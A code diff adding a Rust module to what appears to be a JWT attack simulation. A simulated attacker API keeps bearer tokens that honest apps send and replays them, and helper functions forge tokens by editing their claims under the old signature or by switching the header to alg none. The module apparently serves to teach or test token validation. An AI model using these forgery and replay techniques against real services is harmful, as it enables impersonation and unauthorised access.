@@ -1,0 +1,66 @@
+//! What an attacker can do with a token and no key.
+
+use super::MALLORY;
+use crate::keys::base64url;
+use crate::sim::{Handled, Moment, Server};
+use crate::validate::jwt::{Token, lenient_base64url};
+use crate::wire::{Request, Response, bearers};
+use crate::words::scene as words;
+use serde_json::{Value, json};
+
+/// An API of Mallory's that honest apps call: it keeps the tokens that they send.
+#[derive(Default)]
+pub struct ReportsApi {
+    kept: String,
+}
+
+impl ReportsApi {
+    pub const HOST: &'static str = "reports-api.example.com";
+
+    /// A request of her own with the token that she kept.
+    pub fn replay(&self, host: &str, target: &str) -> Request {
+        Request::new("GET", host, target).bearer(&self.kept)
+    }
+}
+
+impl Server for ReportsApi {
+    fn id(&self) -> &'static str {
+        MALLORY
+    }
+
+    fn receive(&mut self, request: &Request, _: &mut Moment<'_>) -> Handled {
+        if let Some(bearer) = bearers(request).into_iter().next() {
+            self.kept = bearer.value;
+        }
+        Handled {
+            response: Response::new(200).json(&json!({"reports": []})),
+            report: None,
+            notes: vec![words::state_token_kept()],
+        }
+    }
+}
+
+/// The token with its claims changed and its old signature left in place.
+pub fn edited(token: &str, change: impl FnOnce(&mut Value)) -> String {
+    let token = Token::read(token);
+    let mut claims = claims_of(&token);
+    change(&mut claims);
+    let payload = base64url(claims.to_string().as_bytes());
+    format!("{}.{payload}.{}", token.segment(0), token.segment(2))
+}
+
+/// The token's claims, changed, under a header that says alg none, with nothing signed:
+/// RFC 7519 §6.
+pub fn unsecured(token: &str, change: impl FnOnce(&mut Value)) -> String {
+    let token = Token::read(token);
+    let mut claims = claims_of(&token);
+    change(&mut claims);
+    let mut header = Value::Object(token.header);
+    header["alg"] = "none".into();
+    let part = |value: &Value| base64url(value.to_string().as_bytes());
+    format!("{}.{}.", part(&header), part(&claims))
+}
+
+fn claims_of(token: &Token) -> Value {
+    serde_json::from_slice(&lenient_base64url(token.segment(1))).unwrap_or_default()
+}
